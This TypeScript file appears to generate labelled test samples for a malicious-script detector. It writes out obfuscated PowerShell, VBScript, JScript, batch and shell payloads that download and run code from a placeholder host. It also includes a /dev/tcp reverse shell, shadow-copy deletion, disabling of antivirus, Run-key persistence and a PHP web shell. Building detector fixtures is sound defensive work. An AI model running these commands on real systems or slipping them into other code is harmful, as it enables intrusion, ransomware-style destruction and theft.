import { deflateRawSync, gzipSync } from 'node:zlib'
import { encodeScript } from '../formats/encoded-script.ts'
import { type Sample, sample, word } from './sample.ts'

const host = 'http://files.example.invalid'
const download = word('Download', 'String')
const client = word('(New-Object Net.Web', 'Client)')
const cradle = `${word('I', 'EX')} ${client}.${download}('${host}/a.ps1')`
const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const base64 = (text: string) => Buffer.from(text).toString('base64')
const shell = word('power', 'shell')
const codes = (text: string) => [...text].map((letter) => letter.charCodeAt(0))

const vbs = (body: string) =>
  `Dim shell\r\nSet shell = CreateObject("WScript.Shell")\r\n${body}\r\n`

export const scriptSamples = (): Sample[] => [
  sample(
    'update.bat',
    'an encoded command',
    'script.encoded-command',
    `@echo off\r\n${shell} -nop -w hidden -enc ${utf16(cradle)}\r\n`,
  ),
  sample(
    'carets.cmd',
    'words taken apart with carets',
    'script.download-run',
    `@echo off\r\np^ow^ers^hell -c "${word('I', 'EX')} ${client}.${download}('${host}/b')"\r\n`,
  ),
  sample(
    'variables.bat',
    'a command in pieces of variables',
    'script.system-tool',
    `@echo off\r\nset a=ms\r\nset b=hta\r\nset c=${host}/x.hta\r\n%a%%b% %c%\r\n`,
  ),
  sample(
    'cleanup.bat',
    'backups deleted',
    'script.recovery-off',
    `@echo off\r\n${word('vss', 'admin')} delete shadows /all /quiet\r\n`,
  ),
  sample(
    'load.bat',
    'a part of Windows that downloads',
    'script.system-tool',
    `@echo off\r\n${word('cert', 'util')} -urlcache -split -f ${host}/a.txt %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n`,
  ),
  sample('cradle.ps1', 'downloads and runs', 'script.download-run', `$a = 1\n${cradle}\n`),
  sample(
    'gzip.ps1',
    'a script packed in base64',
    'script.decoded-run',
    `$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String("${gzipSync(`Write-Host hello\n${cradle}\n`).toString('base64')}"))\nInvoke-Expression (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\n`,
  ),
  sample(
    'deflate.ps1',
    'the same with deflate',
    'script.download-run',
    `$b = [Convert]::FromBase64String("${deflateRawSync(`Write-Host hello hello hello\n${cradle}\n`).toString('base64')}")\n& ([scriptblock]::Create($b))\n`,
  ),
  sample(
    'format.ps1',
    'words put together by the format operator',
    'script.shortened',
    `$x = ("{2}{0}{1}" -f 'nload','String','Dow')\n$y = ("{1}{0}" -f 'ke-Expression','Invo')\nWrite-Output ${client}.$x('${host}/c') | & $y\n`,
  ),
  sample(
    'codes.ps1',
    'words as character codes',
    'script.download-run',
    `$c = ${codes(cradle)
      .map((code) => `[char]${code}`)
      .join('+')}\n& ([scriptblock]::Create($c))\n`,
  ),
  sample(
    'protection.ps1',
    'protection switched off',
    'script.protection-off',
    `${word('Set-Mp', 'Preference')} -DisableRealtimeMonitoring $true\nWrite-Host done\n`,
  ),
  sample(
    'memory.ps1',
    'code in memory',
    'script.memory',
    `$b = [Convert]::FromBase64String($env:X)\n[System.Reflection.Assembly]::${word('Lo', 'ad')}($b)\n`,
  ),
  sample(
    'replace.vbs',
    'an address that is replaced',
    'script.download-run',
    vbs(
      `u = Replace("hXXp://files.example.invalid/a.exe", "hXXp", "http")\r\nSet h = CreateObject("${word('MSXML2.', 'XMLHTTP')}")\r\nh.Open "GET", u, False\r\nh.Send\r\nshell.Run "a.exe", 0`,
    ),
  ),
  sample(
    'chr.vbs',
    'letters as numbers',
    'script.decoded-run',
    vbs(
      `Execute(${codes('shell.Run "calc"')
        .map((code) => `Chr(${code})`)
        .join(' & ')})`,
    ),
  ),
  sample(
    'reverse.vbs',
    'a text written backwards',
    'script.layers',
    vbs(`x = StrReverse("${[...`${shell} -c ${host}/a`].reverse().join('')}")\r\nshell.Run x, 0`),
  ),
  sample(
    'startup.vbs',
    'starts again after a restart',
    'script.persistence',
    vbs(
      `shell.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "wscript a.vbs"`,
    ),
  ),
  sample(
    'drop.js',
    'a script of Windows that downloads',
    'script.download-run',
    `var x = new ActiveXObject("${word('MSXML2.', 'XMLHTTP')}");\nx.open("GET", "${host}/a.exe", false);\nx.send();\nvar s = new ActiveXObject("${word('ADODB.', 'Stream')}");\ns.Open();\nnew ActiveXObject("WScript.Shell").Run("a.exe");\n`,
  ),
  sample(
    'eval.js',
    'a decoded text that is run',
    'script.decoded-run',
    `var a = 1;\neval(atob("${base64(`document.location = "${host}/landing-page"`)}"));\n`,
  ),
  sample(
    'encoded.jse',
    'the script encoder',
    'script.jscript-encoded',
    encodeScript(
      `var s = new ActiveXObject("WScript.Shell");\r\ns.Run("mshta ${host}/a.hta");\r\n`,
    ),
  ),
  sample(
    'invoice.hta',
    'a page that runs as a program',
    'script.hta',
    `<html><head><hta:application id="a" windowstate="minimize"></head><script language="VBScript">Set s = CreateObject("WScript.Shell")\ns.Run "calc", 0</script></html>`,
  ),
  sample(
    'task.wsf',
    'a job of the script host',
    'script.download-run',
    `<job><script language="JScript">var x = new ActiveXObject("${word('WinHttp.', 'WinHttpRequest.5.1')}"); x.Open("GET", "${host}/a"); new ActiveXObject("WScript.Shell").Run("b");</script></job>`,
  ),
  sample(
    'install.sh',
    'loads and runs',
    'script.download-run',
    `#!/bin/sh\n${word('cu', 'rl')} -fsSL ${host}/install | sh\n`,
  ),
  sample(
    'shell.sh',
    'a shell handed over',
    'script.reverse-shell',
    `#!/bin/bash\nbash -i >& ${word('/dev', '/tcp')}/192.0.2.1/4444 0>&1\n`,
  ),
  sample(
    'hidden.sh',
    'a hidden command',
    'script.decoded-run',
    `#!/bin/sh\necho ${base64(`wget ${host}/miner -O /tmp/m`)} | base64 -d | sh\n`,
  ),
  sample(
    'loader.py',
    'a hidden program text',
    'script.decoded-run',
    `import base64\nexec(base64.b64decode("${base64(`import os\nos.system("echo ${host}")\n`)}"))\n`,
  ),
  sample(
    'shell.php',
    'a page that takes commands',
    'script.web-shell',
    `<?php ${word('sys', 'tem')}($_GET["c"]); ?>`,
  ),
  sample(
    'test.com',
    'the test file of virus scanners',
    'script.test-virus',
    word('X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'),
  ),
]
